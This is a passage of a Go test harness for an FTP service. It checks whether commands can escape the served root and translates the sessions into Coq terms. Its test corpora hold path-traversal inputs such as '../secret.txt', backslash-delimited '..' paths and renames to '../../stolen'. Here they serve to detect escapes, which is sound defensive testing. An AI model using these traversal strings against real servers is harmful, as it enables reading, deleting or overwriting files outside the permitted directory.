	}
}

// net.Pipe is synchronous: write in the background, the replies pace the dialogue
func (cl *client) send(s string) error {
	go func() {
		cl.c.SetWriteDeadline(time.Now().Add(10 * time.Second))
		cl.c.Write([]byte(s))
	}()
	return nil
}

func (cl *client) cmd(line string) ([]int, string, error) {
	if err := cl.send(line + "\r\nNOOP\r\n"); err != nil {
		return nil, "", err
	}
	return cl.untilFence()
}

func has(codes []int, c int) bool {
	for _, x := range codes {
		if x == c {
			return true
		}
	}
	return false
}

// a command with its own active-mode data connection
// fault: "" none; "reset" = the client resets the data connection (after the upload bytes, if
// any; before reading anything of a download)
func (cl *client) transfer(line string, upload []byte, download bool, fault string) ([]int, string, []byte, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		hx.Fatal("listen: %v", err)
	}
	defer ln.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	codes, _, err := cl.cmd(fmt.Sprintf("PORT 127,0,0,1,%d,%d", port/256, port%256))
	if err != nil {
		return nil, "", nil, err
	}
	if !has(codes, 200) {
		return nil, "", nil, fmt.Errorf("PORT refused: %v", codes)
	}
	ln.(*net.TCPListener).SetDeadline(time.Now().Add(5 * time.Second))
	dc, err := ln.Accept()
	if err != nil {
		return nil, "", nil, fmt.Errorf("no data connection: %v", err)
	}
	defer dc.Close()
	var got []byte
	var wg sync.WaitGroup
	if fault == "reset" {
		if !download && len(upload) > 0 {
			dc.Write(upload)
		}
		dc.(*net.TCPConn).SetLinger(0) // close sends RST
		dc.Close()
		download = false
	} else if download {
		wg.Add(1)
		go func() {
			defer wg.Done()
			got, _ = io.ReadAll(dc)
		}()
	} else {
		dc.Write(upload)
		dc.(*net.TCPConn).CloseWrite()
	}
	var text string
	codes, text, err = cl.cmd(line)
	if err != nil {
		return codes, text, nil, err
	}
	if download {
		if has(codes, 226) {
			dc.SetReadDeadline(time.Now().Add(5 * time.Second))
		} else {
			dc.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
		}
		wg.Wait()
	}
	return codes, text, got, nil
}

// LEntry is one line of a listing: the name and, for LIST, "mode|size|mtime" as printed.
type LEntry struct {
	Name string `json:"name"`
	Meta string `json:"meta,omitempty"`
}

// one LIST line is mode, size right-aligned in 12 columns, " Jan _2 15:04 ", name
func parseListing(data []byte, detailed bool) []LEntry {
	var out []LEntry
	for _, l := range strings.Split(string(data), "\r\n") {
		if l == "" {
			continue
		}
		if !detailed {
			out = append(out, LEntry{Name: l})
			continue
		}
		k := strings.IndexAny(l, " 0123456789")
		if k < 0 || len(l) < k+26 {
			out = append(out, LEntry{Name: l, Meta: "?unparsed"})
			continue
		}
		out = append(out, LEntry{Name: l[k+26:], Meta: l[:k] + "|" + strings.TrimSpace(l[k:k+12]) + "|" + strings.TrimSpace(l[k+12:k+26])})
	}
	sort.Slice(out, func(a, b int) bool { return out[a].Name+"\x00"+out[a].Meta < out[b].Name+"\x00"+out[b].Meta })
	return out
}

// ground truth for a listing, taken from the host right before the command: every entry of
// every directory inside the root, with the metadata a LIST line would show for it
func (w window) insideEntries(detailed bool) []LEntry {
	var out []LEntry
	seen := map[LEntry]bool{}
	info, err := os.Lstat(w.root)
	if err != nil || !info.IsDir() {
		return out
	}
	filepath.Walk(w.root, func(p string, info os.FileInfo, err error) error {
		if err != nil || p == w.root {
			return nil
		}
		e := LEntry{Name: info.Name()}
		if detailed {
			size := strconv.Itoa(int(info.Size()))
			if len(size) > 12 {
				size = size[:12]
			}
			e.Meta = info.Mode().String() + "|" + size + "|" + strings.TrimSpace(info.ModTime().Format(" Jan _2 15:04 "))
		}
		if !seen[e] {
			seen[e] = true
			out = append(out, e)
		}
		return nil
	})
	return out
}

// runFtp drives one session of the real service; crash != "" when the service failed.
func runFtp(w window, layout int, ops []Op) (ob FtpObs, crash string) {
	w.resetLayout(layout)
	before := escapeState()
	modesBefore := w.outsideModes()
	fn, ok := services.Get("ftp")
	if !ok {
		hx.Fatal("ftp service not registered")
	}
	svc := fn(services.WithChannel(nullChannel{}))
	sc, cc := lab.Pipe(&net.TCPAddr{IP: net.ParseIP("127.0.0.1"), Port: 21}, &net.TCPAddr{IP: net.ParseIP("127.0.0.1"), Port: 40000})
	done := make(chan string, 1)
	go func() {
		defer func() {
			if e := recover(); e != nil {
				sc.Close()
				done <- fmt.Sprintf("panic in Handle: %v", e)
			}
		}()
		svc.Handle(context.Background(), server.TimeoutConn(sc, 30*time.Second))
		done <- ""
	}()
	cl := &client{c: cc, rd: bufio.NewReader(cc)}
	fail := func(what string, err error) (FtpObs, string) {
		cc.Close()
		select {
		case d := <-done:
			if d != "" {
				return ob, d
			}
		case <-time.After(2 * time.Second):
		}
		return ob, fmt.Sprintf("%s: %v", what, err)
	}
	// greeting, login
	cc.SetReadDeadline(time.Now().Add(10 * time.Second))
	if line, err := cl.rd.ReadString('\n'); err != nil || !strings.HasPrefix(line, "220 ") {
		return fail("greeting", fmt.Errorf("%q %v", line, err))
	}
	if codes, _, err := cl.cmd("USER anonymous"); err != nil || !has(codes, 331) {
		return fail("USER", fmt.Errorf("%v %v", codes, err))
	}
	if codes, _, err := cl.cmd("PASS anonymous"); err != nil || !has(codes, 230) {
		return fail("PASS", fmt.Errorf("%v %v", codes, err))
	}
	for _, o := range ops {
		var fo FObs
		var err error
		var text string
		var data []byte
		line := o.V + " " + string(o.P)
		var truth []LEntry
		if o.V == "LIST" || o.V == "NLST" {
			truth = w.insideEntries(o.V == "LIST")
		}
		switch o.V {
		case "PWD", "CDUP", "APPE":
			fo.Codes, text, err = cl.cmd(o.V)
		case "REST":
			fo.Codes, text, err = cl.cmd(fmt.Sprintf("REST %d", o.Z))
		case "STOR":
			fo.Codes, _, _, err = cl.transfer(line, o.Data, false, o.Fault)
		case "RETR", "LIST", "NLST":
			if o.Fault == "nodata" {
				fo.Codes, text, err = cl.cmd(line) // no PORT: the server has no data connection
			} else {
				fo.Codes, text, data, err = cl.transfer(line, nil, true, o.Fault)
			}
		default:
			fo.Codes, text, err = cl.cmd(line)
		}
		if err != nil {
			return fail(o.V, err)
		}
		switch o.V {
		case "PWD":
			fo.Kind, fo.Text = "text", hx.B(text)
		case "RETR":
			fo.Kind, fo.Text = "text", hx.B(data)
			// "150 Data transfer starting N bytes": the size announced to the client
			var n int64
			if has(fo.Codes, 150) {
				if _, e := fmt.Sscanf(text, "Data transfer starting %d bytes", &n); e == nil {
					fo.Kind, fo.Num = "retr", n
				}
			}
		case "LIST", "NLST":
			if o.Fault != "" {
				break // nothing was transferred
			}
			fo.Kind = "names"
			fo.Listed = parseListing(data, o.V == "LIST")
			fo.Names = []string{}
			for _, e := range fo.Listed {
				fo.Names = append(fo.Names, e.Name)
			}
			fo.Truth = truth
		case "SIZE":
			if has(fo.Codes, 213) {
				if n, e := strconv.ParseInt(strings.TrimSpace(text), 10, 64); e == nil {
					fo.Kind, fo.Num = "num", n
				}
			}
		}
		ob.Replies = append(ob.Replies, fo)
	}
	cl.send("QUIT\r\n")
	cc.SetReadDeadline(time.Now().Add(5 * time.Second))
	io.Copy(io.Discard, cc)
	cc.Close()
	select {
	case d := <-done:
		if d != "" {
			return ob, d
		}
	case <-time.After(10 * time.Second):
		return ob, "Handle did not return after QUIT"
	}
	ob.Final = w.snapshot()
	if after := escapeState(); after != before {
		ob.Escape = after
	}
	// permissions of what lies outside the root (existence and content are in the snapshot)
	modesAfter := w.outsideModes()
	for p, m := range modesBefore {
		if m2, ok := modesAfter[p]; ok && m2 != m {
			ob.Escape += fmt.Sprintf("mode of %s: %v -> %v;", p, m, m2)
		}
	}
	return ob, ""
}

// ---- child process: commands that may kill the process ----

type childReq struct {
	Layout int `json:"layout"`
	Top string `json:"top"`
	DB  string `json:"db"`
	Ops  []Op   `json:"ops"`
}
type childRes struct {
	Obs   FtpObs `json:"obs"`
	Crash string `json:"crash"`
}

func childMain() {
	var rq childReq
	if err := json.Unmarshal([]byte(os.Getenv("C11_CHILD")), &rq); err != nil {
		hx.Fatal("child request: %v", err)
	}
	// the recursion is unbounded; a smaller stack limit only makes the end come sooner
	debug.SetMaxStack(32 << 20)
	w := newWindow(rq.Top)
	setupStorage(rq.DB, w)
	ob, crash := runFtp(w, rq.Layout, rq.Ops)
	json.NewEncoder(os.Stdout).Encode(childRes{Obs: ob, Crash: crash})
}

// runInChild: crash != "" when the child died or reported a failure
func runInChild(out string, ops []Op) (FtpObs, string) {
	cw := newWindow(filepath.Join(out, "c11child"))
	rq := childReq{Top: filepath.Join(out, "c11child"), DB: filepath.Join(out, "c11child", "db"), Ops: ops}
	os.RemoveAll(filepath.Join(out, "c11child"))
	os.MkdirAll(cw.wd, 0o755)
	b, _ := json.Marshal(rq)
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	self, err := os.Executable()
	if err != nil {
		hx.Fatal("executable: %v", err)
	}
	cmd := exec.CommandContext(ctx, self)
	cmd.Env = append(os.Environ(), "C11_CHILD="+string(b))
	cmd.Dir = cw.wd
	var stderr strings.Builder
	cmd.Stderr = &tailWriter{sb: &stderr, max: 4000}
	stdout, err := cmd.Output()
	if err != nil {
		reason := "child process died: " + err.Error()
		s := stderr.String()
		switch {
		case strings.Contains(s, "stack overflow") || strings.Contains(s, "goroutine stack exceeds"):
			reason = "process killed by stack exhaustion (fatal error: stack overflow)"
			if strings.Contains(s, "ftp.(*Fs).ChangeDir") {
				reason += " in ftp.(*Fs).ChangeDir"
			}
		case ctx.Err() != nil:
			reason = "child process hung (120 s)"
		}
		return FtpObs{}, reason
	}
	var res childRes
	if err := json.Unmarshal(stdout, &res); err != nil {
		return FtpObs{}, "child output unreadable: " + err.Error()
	}
	// keys in the child's window differ from ours: only replies are used
	return res.Obs, res.Crash
}

// keeps the first max bytes (the fatal error line and the top frames)
type tailWriter struct {
	sb  *strings.Builder
	max int
}

func (t *tailWriter) Write(p []byte) (int, error) {
	if t.sb.Len() < t.max {
		k := t.max - t.sb.Len()
		if k > len(p) {
			k = len(p)
		}
		t.sb.Write(p[:k])
	}
	return len(p), nil
}

// ---- generation ----

var pathVerbs = []string{"MKD", "RMD", "DELE", "RNFR", "RNTO", "STOR", "RETR", "LIST", "NLST", "MDTM", "SIZE"}

// set by runFtpPart: the virtual path that is also the absolute name of a host file, and the
// paths that begin with the host-side spelling of the root
var absVirtual string
var hostSpelled []string

// names beside the root that extend the root's name, after 1..3 ".." components (siblingPaths)
var siblingSpelled = siblingPaths()

// For every entry beside the root whose name extends the root's name (and for the root's own
// name), after k = 1..3 ".." components, absolute and relative: every command of the
// quantifier aimed at it, in three short sequences - reading (RETR LIST NLST MDTM SIZE),
// moving the working directory (CWD PWD CDUP), changing (MKD STOR APPE DELE RMD RNFR RNTO).
// What is judged is what the service does: the bytes it sends, the directory it reports, and
// the snapshot of the sentinel tree afterwards.
func siblingCorpus(cwdOK bool) [][]Op {
	P := func(v, p string) Op { return Op{V: v, P: hx.B(p)} }
	S := func(p, d string) Op { return Op{V: "STOR", P: hx.B(p), Data: hx.B(d)} }
	rest := Op{V: "REST", Z: -100}
	var out [][]Op
	for _, name := range siblingTargets() {
		for k := 1; k <= 3; k++ {
			for _, abs := range []bool{true, false} {
				p := strings.Repeat("../", k) + name
				if abs {
					p = "/" + p
				}
				file := p + "/secret.txt"
				if name == rootName+"-" {
					file = p // this sibling is a file itself
				}
				out = append(out, []Op{rest, P("RETR", file), P("LIST", p), P("NLST", p), P("MDTM", p+"/b"), P("SIZE", file), P("SIZE", p+"/b")})
				if cwdOK {
					out = append(out, []Op{P("CWD", p), {V: "PWD"}, P("NLST", ""), {V: "CDUP"}, {V: "PWD"}, P("CWD", p+"/a"), {V: "PWD"}})
				}
				out = append(out, []Op{P("MKD", p+"/made"), S(p+"/put.txt", "put"), {V: "APPE"}, S(p+"/b", "-appended"), P("DELE", p+"/a/b"), P("RMD", p+"/EMPTY-d"),
					P("RNFR", p+"/b"), P("RNTO", "/taken"), P("RNFR", "/a/b"), P("RNTO", p+"/stolen"), P("DELE", p), P("RMD", p)})
			}
		}
	}
	return out
}

// ls-style switches in front of (or instead of) the LIST/NLST argument
var lsSwitches = []string{"-a", "-l", "-la", "-al", "-R", "-aR", "-1", "-a /", "-la /", "-al ..", "-a .", "-la a", "-a a/..", "-a /a/b/../..", "-l b",
	"-a ../..", "-la /..", "-a -l", "-l -a /", "-R /", "-a a/a/..", "--", "-"}

func genFtpPath(r *hx.Rand, all []string) string {
	for {
		var p string
		switch r.Intn(14) {
		case 13:
			p = siblingSpelled[r.Intn(len(siblingSpelled))]
		case 11:
			p = hostSpelled[r.Intn(len(hostSpelled))]
		case 12:
			p = backslashPaths[r.Intn(len(backslashPaths))]
		case 10:
			p = []string{"../secret.txt", "a/../../secret.txt", "../../secret.txt", "secret.txt", "a/../../../secret.txt", "../SENTINEL-d/a", "./../b", absVirtual, absVirtual, "b", "a/b", "../b"}[r.Intn(12)]
		case 0, 1, 2, 3:
			p = all[r.Intn(minInt(len(all), 320))] // up to 3 components
		case 4, 5, 6:
			p = all[r.Intn(len(all))]
		case 7:
			p = []string{"a/b", "/a/b", "b", "/b", "a", "a/a", "a/a/b", "/", "..", "../b", "../a/b", "../../b", "../../a/b", "/../b", "a/../../b", "../SENTINEL-d/a", "../root/b", "../../ftp/root/a/b"}[r.Intn(18)]
		case 8:
			p = oddPath(r)
		default:
			if r.Bool() {
				p = ""
			} else {
				p = all[r.Intn(60)]
			}
		}
		if ftpSafe(p) && len(p) < 200 {
			return p
		}
	}
}

func genFtpOps(r *hx.Rand, all []string, maxLen int, cwdOK bool) []Op {
	n := r.Range(1, maxLen)
	var ops []Op
	for len(ops) < n {
		switch k := r.Intn(20); {
		case k == 0:
			ops = append(ops, Op{V: "PWD"})
		case k == 1:
			ops = append(ops, Op{V: "APPE"})
		case k == 2:
			ops = append(ops, Op{V: "REST", Z: int64(r.PickInt([]int{0, -3, -6, -10, -100, 4, 100, -19, -20}))})
		case k <= 5 && cwdOK:
			if r.Chance(1, 4) {
				ops = append(ops, Op{V: "CDUP"})
			} else {
				ops = append(ops, Op{V: "CWD", P: hx.B(genFtpPath(r, all))})
			}
		default:
			v := pathVerbs[r.Intn(len(pathVerbs))]
			o := Op{V: v, P: hx.B(genFtpPath(r, all))}
			if (v == "LIST" || v == "NLST") && r.Chance(1, 3) {
				o.P = hx.B(lsSwitches[r.Intn(len(lsSwitches))])
			}
			if v == "STOR" && r.Chance(1, 3) {
				// arm append mode first (APPE only sets the flag; REST sets it too)
				if r.Bool() {
					ops = append(ops, Op{V: "APPE"})
				} else {
					ops = append(ops, Op{V: "REST", Z: 0})
				}
			}
			if v == "RETR" && r.Chance(1, 2) {
				// RETR seeks from the end of the file: without a negative REST it sends nothing
				ops = append(ops, Op{V: "REST", Z: int64(r.PickInt([]int{-6, -100, -4}))})
			}
			if v == "STOR" && r.Chance(1, 4) {
				o.Fault = "reset"
			}
			if (v == "LIST" || v == "NLST") && r.Chance(1, 6) {
				o.Fault = r.PickStr([]string{"reset", "nodata"})
			}
			if v == "STOR" {
				o.Data = hx.B(fmt.Sprintf("up-%d-", r.Intn(1000)) + strings.Repeat("x", r.PickInt([]int{0, 1, 10, 3000})))
			}
			if v == "RNFR" && r.Chance(3, 4) {
				ops = append(ops, o)
				o = Op{V: "RNTO", P: hx.B(genFtpPath(r, all))}
			}
			ops = append(ops, o)
		}
	}
	return ops
}

func ftpCorpus() [][]Op {
	P := func(v, p string) Op { return Op{V: v, P: hx.B(p)} }
	S := func(p, d string) Op { return Op{V: "STOR", P: hx.B(p), Data: hx.B(d)} }
	A := func(p, d string) Op { return Op{V: "STOR", P: hx.B(p), Data: hx.B(d), Fault: "reset"} } // aborted upload
	return [][]Op{
		{P("MKD", "../escaped-dir"), S("../../b", "overwrite"), P("DELE", "../b"), P("RMD", "../a/a"), P("RNFR", "a/b"), P("RNTO", "../../stolen")},
		{{V: "REST", Z: -100}, P("RETR", "../b"), {V: "REST", Z: -100}, P("RETR", "b"), P("NLST", ".."), P("LIST", "/../.."), P("SIZE", "../b"), P("MDTM", "../../a/b"), P("RETR", "/../SENTINEL-d/a")},
		{P("RMD", "a/a/b"), P("RMD", "a/a"), P("DELE", "a/b"), P("RMD", "a"), P("DELE", "b"), P("RMD", "/"), P("MKD", "/"), S("/a", "x"), P("NLST", "")},
		{P("DELE", "a/a/b"), P("DELE", "a/a"), P("DELE", "a/b"), P("DELE", "a"), P("DELE", "b"), P("DELE", "/"), S("/", "root-as-file"), P("RETR", "/"), P("MKD", "a")},
		{P("RNTO", "x"), P("RNFR", "/"), P("RNTO", "a/x"), P("RNFR", "a"), P("RNTO", "a"), P("RNFR", "b"), P("RNTO", "b"), P("RNFR", "a"), P("RNTO", "a/a/x")},
		{P("RNFR", "a"), P("RNTO", "b"), P("RNFR", "b"), P("RNTO", "a"), P("RNFR", "a"), P("RNTO", "c"), P("NLST", "c"), P("RNFR", "b"), P("RNTO", "c/b"), P("RETR", "c/b")},
		{{V: "REST", Z: -3}, P("RETR", "b"), {V: "REST", Z: 5}, P("RETR", "b"), {V: "REST", Z: -100}, P("RETR", "b"), P("RETR", "a"), P("RETR", "nope")},
		{{V: "APPE"}, S("b", "-more"), S("b", "new"), {V: "REST", Z: 0}, S("a/b", "+"), S("a", "dir"), S("x/y", "noparent"), P("SIZE", "b"), P("SIZE", "a"), P("SIZE", "zz")},
		// an appending STOR must reach the file inside the root, not the host file of the same
		// absolute name nor the one of that name relative to the server process
		{{V: "APPE"}, S(absVirtual, "-appended"), {V: "REST", Z: 0}, S(absVirtual, "-again"), {V: "REST", Z: -100}, P("RETR", absVirtual)},
		{{V: "APPE"}, S("b", "-appended"), {V: "APPE"}, S("a/b", "-appended"), {V: "APPE"}, S("../b", "-appended"), {V: "APPE"}, S("./a/../b", "-appended")},
		{{V: "REST", Z: 0}, S("/b", "-appended"), {V: "APPE"}, S("/a/b", "-appended"), {V: "APPE"}, S("../../a/b", "-appended")},
		// downloads, sizes and times of names that exist only above the root
		{{V: "REST", Z: -6}, P("RETR", "../secret.txt"), {V: "REST", Z: -6}, P("RETR", "a/../../secret.txt"), P("RETR", "../../secret.txt"), P("SIZE", "../secret.txt"), P("MDTM", "../secret.txt")},
		{{V: "REST", Z: -100}, P("RETR", "../SENTINEL-d/a"), {V: "REST", Z: -6}, P("RETR", "secret.txt"), P("SIZE", "a/../../secret.txt"), P("MDTM", "a/../../secret.txt"), P("SIZE", "../../secret.txt"), P("NLST", "../SENTINEL-d")},
		{{V: "REST", Z: -2000}, P("RETR", "../../secret.txt"), {V: "REST", Z: -6}, P("RETR", "a/../../../secret.txt"), {V: "REST", Z: -6}, P("RETR", "./../b")},
		// data-channel faults: the upload is reset before any byte / mid-transfer; whatever the
		// server cleans up must be the file inside the root, not the host file the client's
		// string would name (absolute: the mirrored host path; relative: the server's cwd)
		{A(absVirtual, ""), P("NLST", filepath.Dir(absVirtual)), A(absVirtual, "partial-"), {V: "REST", Z: -100}, P("RETR", absVirtual)},
		{A("b", ""), A("a/b", "part"), A("../b", ""), A("secret.txt", "part"), A("./a/../b", "")},
		{{V: "APPE"}, A(absVirtual, "app"), {V: "APPE"}, A("b", "app"), {V: "REST", Z: 0}, A("a/b", ""), {V: "APPE"}, A("../../b", "x")},
		{A("new", "part"), A("a/new", ""), A("a", "isdir"), A("x/y", "noparent"), A("/", "root"), A("../secret.txt", "part"), A("../../secret.txt", ""), P("NLST", "")},
		{A(hostSpelled[0]+"/b", "x"), A(hostSpelled[0]+"/../b", "x"), A("..\\b", "x"), A("/b", ""), A("//a//b", "part")},
		{{V: "LIST", P: hx.B(""), Fault: "nodata"}, {V: "NLST", P: hx.B(".."), Fault: "nodata"}, {V: "LIST", P: hx.B("../.."), Fault: "reset"}, {V: "NLST", P: hx.B("-a"), Fault: "reset"}, P("NLST", "")},
		// ls-style switches at every place where the listed directory is the root or next to it
		{P("LIST", "-a"), P("LIST", "-la"), P("LIST", "-al /"), P("NLST", "-a"), P("NLST", "-a .."), P("LIST", "-l"), P("LIST", "-R"), P("LIST", "-a a/.."), P("LIST", "-la /a/b/../..")},
		{P("LIST", ""), P("LIST", "/"), P("LIST", ".."), P("LIST", "a"), P("LIST", "-a a"), P("LIST", "a/a"), P("NLST", "a/b"), P("LIST", "b"), P("LIST", "../SENTINEL-d"), P("LIST", "../..")},
		// the host-side spelling of the root in front of the argument
		{P("MKD", hostSpelled[0]+"/../made"), S(hostSpelled[0]+"/../../put.txt", "put"), P("DELE", hostSpelled[0]+"/../../secret.txt"), P("RMD", hostSpelled[0]+"/../a/a"), P("SIZE", hostSpelled[0]+"/../secret.txt"), P("LIST", hostSpelled[0]+"/.."), P("NLST", hostSpelled[0]+"/../..")},
		{P("RNFR", "b"), P("RNTO", hostSpelled[0]+"/../../stolen"), P("RNFR", hostSpelled[0]+"/../b"), P("RNTO", "taken"), {V: "REST", Z: -100}, P("RETR", hostSpelled[0]+"/../b"), P("MDTM", hostSpelled[0]+"/../../secret.txt"), P("SIZE", strings.TrimPrefix(hostSpelled[0], "/")+"/../../secret.txt")},
		{P("MKD", hostSpelled[0]), P("MKD", hostSpelled[0]+"/"), P("NLST", hostSpelled[0]), P("SIZE", hostSpelled[0]+"/b"), P("LIST", hostSpelled[0]+"//..//.."), P("MKD", hostSpelled[0]+"/../root/x"), P("NLST", "")},
		// ".." delimited by backslashes is one ordinary component
		{P("SIZE", "..\\..\\secret.txt"), P("MDTM", "..\\secret.txt"), P("LIST", "..\\.."), P("NLST", "..\\.."), P("MKD", "..\\..\\made"), S("..\\put.txt", "put"), P("DELE", "..\\..\\secret.txt"), P("RMD", "..\\a\\a")},
		{P("RNFR", "b"), P("RNTO", "..\\..\\stolen"), P("RNFR", "..\\b"), P("RNTO", "taken"), {V: "REST", Z: -100}, P("RETR", "..\\b"), P("MKD", "a\\b"), P("NLST", ""), P("SIZE", "/..\\..\\secret.txt")},
		{P("MKD", ""), P("LIST", ""), P("NLST", "a/../a/./a//"), P("MKD", "a/a/../../c d"), P("NLST", "/"), {V: "PWD"}},
	}
}

// every way to name the root directory itself
func rootSpellings(w window) []string {
	return []string{"/", ".", "..", "//", "a/..", "/..", "../..", "/./", "a/../..", "/a/../", w.root, w.root + "/", w.root + "/a/..", "./"}
}

// commands that leave the root empty (layout 0 also holds the mirrored host path)
func emptyRoot(layout int, w window, abs bool) []Op {
	P := func(v, p string) Op {
		if abs {
			p = "/" + p
		}
		return Op{V: v, P: hx.B(p)}
	}
	ops := []Op{P("DELE", "a/b"), P("DELE", "b"), P("RMD", "a/a/b"), P("RMD", "a/a"), P("RMD", "a")}
	if layout == 0 {
		m := strings.TrimPrefix(w.absFile(), "/")
		ops = append(ops, P("DELE", m))
		for d := filepath.Dir(m); d != "."; d = filepath.Dir(d) {
			ops = append(ops, P("RMD", d))
		}
	}
	return ops
}

func rootCorpus(layout int, w window, cwdOK bool) [][]Op {
	P := func(v, p string) Op { return Op{V: v, P: hx.B(p)} }
	S := func(p, d string) Op { return Op{V: "STOR", P: hx.B(p), Data: hx.B(d)} }
	with := func(tail ...Op) []Op { return append(append([]Op(nil), emptyRoot(layout, w, false)...), tail...) }
	var out [][]Op
	// RMD of the emptied root, every spelling; afterwards the client looks around
	for _, sp := range rootSpellings(w) {
		out = append(out, with(P("RMD", sp), P("NLST", ""), P("MKD", "x")))
	}
	out = append(out,
		// root not empty: nothing may go
		[]Op{P("RMD", "/"), P("RMD", ".."), P("RMD", "a/a/b"), P("RMD", "a/.."), P("NLST", "")},
		// removed and recreated, as directory and as file; commands racing with it
		with(P("RMD", "/"), P("MKD", "/"), P("MKD", "a"), S("b", "again"), P("RMD", "a"), P("DELE", "b"), P("RMD", "..")),
		with(P("RMD", "/"), S("/", "root-as-file"), Op{V: "REST", Z: -100}, P("RETR", "/"), P("MKD", "a"), P("DELE", "/"), P("MKD", "/"), P("RMD", "/")),
		with(P("RMD", "/"), P("MKD", "a"), S("a", "x"), P("RMD", "/"), P("RMD", ".."), P("DELE", ".."), P("NLST", "..")),
		with(P("DELE", "/"), P("DELE", "/"), P("MKD", ".."), P("RMD", "../..")),
		// the root renamed: onto itself, into itself, above itself; something renamed onto the root
		with(P("RNFR", "/"), P("RNTO", "/"), P("RNFR", "/"), P("RNTO", "x"), P("RNFR", "/"), P("RNTO", "../moved"), P("RNFR", "."), P("RNTO", w.root+"/../moved"), P("NLST", "")),
		with(P("MKD", "d"), P("RNFR", "d"), P("RNTO", "/"), P("RNFR", "d"), P("RNTO", ".."), P("RNFR", "d"), P("RNTO", "../.."), P("RMD", "d"), P("RNTO", "..")),
		with(P("RMD", "/"), P("RNFR", "/"), P("RNTO", "x"), P("RNFR", ".."), P("RNTO", "/"), P("MKD", "/"), P("RNFR", "/"), P("RNTO", "/a")),
		// pruning must stop at the root: sub-trees removed bottom-up while the root keeps a file
		[]Op{P("RMD", "a/a/b"), P("NLST", "a"), P("RMD", "a/a"), P("NLST", "a"), P("DELE", "a/b"), P("RMD", "a"), P("NLST", "")},
	)
	if cwdOK {
		out = append(out,
			// ".." from a sub-directory that was just removed
			append(append([]Op{P("CWD", "a")}, emptyRoot(layout, w, true)...), P("RMD", ".."), Op{V: "PWD"}, P("NLST", "")),
			append(append([]Op{P("CWD", "a/a")}, emptyRoot(layout, w, true)...), P("RMD", "../.."), P("RMD", ".."), Op{V: "PWD"}),
			with(P("CWD", "/"), P("RMD", "."), Op{V: "CDUP"}, Op{V: "PWD"}, P("MKD", "."), P("RMD", "/")))
	}
	return out
}

func coqCmd(o Op) string {
	switch o.V {
	case "PWD":
		return "CPwd"
	case "CDUP":
		return "CCdup"
	case "APPE":
		return "CAppe"
	case "REST":
		return "CRest " + hx.CoqZ(o.Z)
	case "STOR":
		if o.Fault != "" {
			return "CStorAbort " + hx.CoqBytes(o.P) + " " + hx.CoqBytes(o.Data)
		}
		return "CStor " + hx.CoqBytes(o.P) + " " + hx.CoqBytes(o.Data)
	case "LIST", "NLST":
		if o.Fault != "" {
			return "CListNoData " + hx.CoqBytes(o.P)
		}
	}
	name := map[string]string{"CWD": "CCwd", "MKD": "CMkd", "RMD": "CRmd", "DELE": "CDele", "RNFR": "CRnfr", "RNTO": "CRnto",
		"RETR": "CRetr", "LIST": "CList", "NLST": "CNlst", "MDTM": "CMdtm", "SIZE": "CSize"}[o.V]
	if name == "" {
		hx.Fatal("verb %q", o.V)
	}
	return name + " " + hx.CoqBytes(o.P)
}

func coqFtp(id int, layout int, ops []Op, ob FtpObs) string {
	var cs, rs []string
	for _, o := range ops {
		cs = append(cs, coqCmd(o))
	}
	for _, f := range ob.Replies {
		var codes []string
		for _, c := range f.Codes {
			codes = append(codes, hx.CoqN(uint64(c)))
		}
		pay := "PNone"
		switch f.Kind {
		case "text":
			pay = "PText " + hx.CoqBytes(f.Text)
		case "names":
			var ns []string
			for _, n := range f.Names {
				ns = append(ns, hx.CoqStr(n))
			}
			pay = "PNames " + hx.CoqList(ns, "bytes")
		case "num":
			pay = "PNum " + hx.CoqZ(f.Num)
		case "retr":
			pay = "PRetr " + hx.CoqZ(f.Num) + " " + hx.CoqBytes(f.Text)
		}
		rs = append(rs, fmt.Sprintf("(%s, %s)", hx.CoqList(codes, "N"), pay))
	}
	var ls []string
	ents := func(es []LEntry) string {
		var xs []string
		for _, e := range es {
			xs = append(xs, fmt.Sprintf("(%s, %s)", hx.CoqStr(e.Name), hx.CoqStr(e.Meta)))
		}
		return hx.CoqList(xs, "(bytes * bytes)")
	}
	for _, f := range ob.Replies {
		if f.Kind == "names" {
			ls = append(ls, fmt.Sprintf("(%s, %s)", ents(f.Listed), ents(f.Truth)))
		}
	}
	return fmt.Sprintf("mkFC %s ROOT FS%d %s %s %s %s %s", hx.CoqN(uint64(id)), layout, hx.CoqList(cs, "cmd"),
		hx.CoqList(rs, "(list N * payload)"), coqFS(ob.Final), hx.CoqBool(ob.Escape != ""),
		hx.CoqList(ls, "(list (bytes * bytes) * list (bytes * bytes))"))
}

func runFtpPart(o hx.Opts, r *hx.Rand, w window, out, header string, all []string, replay *Input) {
	absVirtual = w.absFile()
	hostSpelled = hostPaths(w.root)
	quick := o.Tier == "quick"
	dist := map[string]int{}
	var cases []hx.Case
	add := func(kind string, layout int, ops []Op, ob FtpObs, crash string) {
		id := len(cases)
		in := Input{Part: kind, Ops: ops, Layout: layout}
		dist[fmt.Sprintf("layout:%d", layout)]++
		for _, op := range ops {
			dist["verb:"+op.V]++
			if strings.Contains(string(op.P), "..") {
				dist["arg-with-dotdot"]++
			}
			if strings.HasPrefix(string(op.P), "/") {
				dist["arg-absolute"]++
			}
		}
		for _, f := range ob.Replies {
			for _, c := range f.Codes {
				dist[fmt.Sprintf("reply:%d", c)]++
			}
		}
		dist[fmt.Sprintf("commands:%d", minInt(len(ops), 10))]++
		c := hx.Case{ID: id, Kind: kind, Input: in, Obs: ob, Crash: crash}
		if crash == "" {
			c.Coq = coqFtp(id, layout, ops, ob)
		}
		cases = append(cases, c)
	}

	// does a directory change survive?  Probed in a child process: before /repo commit 6736570
	// Fs.ChangeDir called itself and the process died of stack exhaustion; should that come
	// back, the probe is reported as a crash case and CWD/CDUP are left out of the sequences.
	cwdOps := []Op{{V: "CWD", P: hx.B("a")}, {V: "PWD"}, {V: "CDUP"}, {V: "PWD"}}
	if replay != nil && replay.Part == "ftp-cwd" {
		cwdOps = replay.Ops
	}
	cwdOK := false
	if replay == nil || replay.Part == "ftp-cwd" {
		ob, crash := runInChild(out, cwdOps)
		cwdOK = crash == ""
		dist[fmt.Sprintf("cwd-probe-survives:%v", cwdOK)]++
		if !cwdOK {
			add("ftp-cwd", 0, cwdOps, ob, crash)
		}
		if replay != nil {
			if cwdOK {
				// repaired code: judge the replayed sequence in-process like any other
